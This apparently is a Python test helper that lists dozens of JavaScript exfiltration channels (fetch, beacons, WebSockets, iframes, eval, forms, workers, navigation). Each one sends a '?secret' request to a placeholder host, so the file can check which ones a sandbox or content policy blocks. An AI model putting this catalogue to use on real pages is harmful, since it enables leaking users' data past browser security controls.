"""Ways out: each a piece of JavaScript that tries to reach `BASE + '/<name>?secret'`."""

from __future__ import annotations

from typing import Final

#: Where there is a document. In `EVERYWHERE` they work in workers, too.
EVERYWHERE: Final = {
    "fetch": "fetch(url, {mode: 'no-cors'})",
    "fetch-keepalive": "fetch(url, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', url); x.send()",
    "websocket": "new WebSocket(url.replace('http', 'ws'))",
    "eventsource": "new EventSource(url)",
    "import": "import(url)",
    "worker": "new Worker(url)",
    "module-worker": "new Worker(url, {type: 'module'})",
    "cache": "caches.open('c').then(c => c.add(new Request(url, {mode: 'no-cors'})))",
    "compile": "WebAssembly.compileStreaming(fetch(url, {mode: 'no-cors'}))",
}
DOCUMENT: Final = {
    "beacon": "navigator.sendBeacon(url, 'x')",
    "image": "new Image().src = url",
    "srcset": "add('img', {srcset: url + ' 1x'})",
    "script": "add('script', {src: url})",
    "module-script": "add('script', {src: url, type: 'module'})",
    "stylesheet": "add('link', {rel: 'stylesheet', href: url})",
    "style-import": "add('style', {textContent: `@import '${url}'`})",
    "background": "document.body.style.background = `url(${url})`",
    "font": "new FontFace('f', `url(${url})`).load()",
    "preload": "add('link', {rel: 'preload', as: 'image', href: url})",
    "prefetch": "add('link', {rel: 'prefetch', href: url})",
    "icon": "add('link', {rel: 'icon', href: url})",
    "manifest": "add('link', {rel: 'manifest', href: url})",
    "iframe": "add('iframe', {src: url})",
    "object": "add('object', {data: url})",
    "embed": "add('embed', {src: url})",
    "video": "add('video', {src: url, preload: 'auto'})",
    "audio": "new Audio(url).play()",
    "poster": "add('video', {poster: url})",
    "track": "add('video', {src: url}).append(Object.assign(document.createElement('track'), {src: url}))",
    "svg": "add('div', {innerHTML: `<svg><image href='${url}' width='9' height='9'/></svg>`})",
    "inline-frame": "add('iframe', {srcdoc: `<script>fetch('${url}', {mode: 'no-cors'})</script>`})",
    "inline-script": "add('script', {textContent: `fetch('${url}', {mode: 'no-cors'})`})",
    "handler": "add('div', {innerHTML: `<img src='x:' onerror=\"fetch('${url}', {mode: 'no-cors'})\">`})",
    "eval": "(0, eval)(`fetch('${url}', {mode: 'no-cors'})`)",
    "blob-frame": (
        "add('iframe', {src: URL.createObjectURL(new Blob([`<script>fetch('${url}')</script>`], {type: 'text/html'}))})"
    ),
    "data-frame": "add('iframe', {src: `data:text/html,<img src='${url}'>`})",
    "javascript-frame": "add('iframe', {src: `javascript:fetch('${url}', {mode: 'no-cors'})`})",
    "open": "open(url)",
    "popup-link": "add('a', {href: url, target: '_blank'}).click()",
    "form": "const f = add('form', {action: url, method: 'get', target: '_blank'}); f.submit()",
    "ping": "const a = add('a', {href: '#', ping: url}); a.click()",
    "speculation": (
        "add('script', {type: 'speculationrules', "
        "textContent: JSON.stringify({prefetch: [{source: 'list', urls: [url], eagerness: 'immediate'}]})})"
    ),
    "worklet": "CSS.paintWorklet.addModule(url)",
    "audio-worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url)",
    "shared-worker": "new SharedWorker(url)",
    "service-worker": "navigator.serviceWorker.register(url)",
}
#: Each leads the document elsewhere, so each needs one of its own.
NAVIGATION: Final = {
    "location": "location.href = url",
    "replace": "location.replace(url)",
    "self-link": "add('a', {href: url}).click()",
    "self-form": "add('form', {action: url, method: 'get'}).submit()",
    "self-post": "add('form', {action: url, method: 'post'}).submit()",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${url}`})",
    "navigate": "navigation.navigate(url)",
    "self-open": "open(url, '_self')",
    "parent": "parent.location = url",
    "top": "top.location = url",
    "javascript": "location.href = `javascript:fetch('${url}', {mode: 'no-cors'})`",
}
#: Those that do not get through even where nothing is forbidden: they need what this test has not (a page
#: over https, a sibling's file, a click of a person, a policy that allows eval).
NEVER: Final = {"cache", "worker", "module-worker", "shared-worker", "service-worker", "manifest"}

PRELUDE: Final = """
const add = (tag, properties) => {
  const element = document.createElement(tag);
  Object.assign(element, properties);
  document.body.append(element);
  return element;
};
"""


def script(attacks: dict[str, str], base: str) -> str:
    """JavaScript that tries them all; one that fails at once does not hinder the others."""
    tries = "\n".join(
        f"await (async () => {{ const url = '{base}/{name}?secret'; {code}; }})().catch(e => errors.push('{name} ' + e));"
        if "await" in code
        else f"try {{ const url = '{base}/{name}?secret'; {code}; }} catch (e) {{ errors.push('{name} ' + e); }}"
        for name, code in attacks.items()
    )
    return f"{PRELUDE}\nconst errors = [];\n{tries}\nreturn errors;"
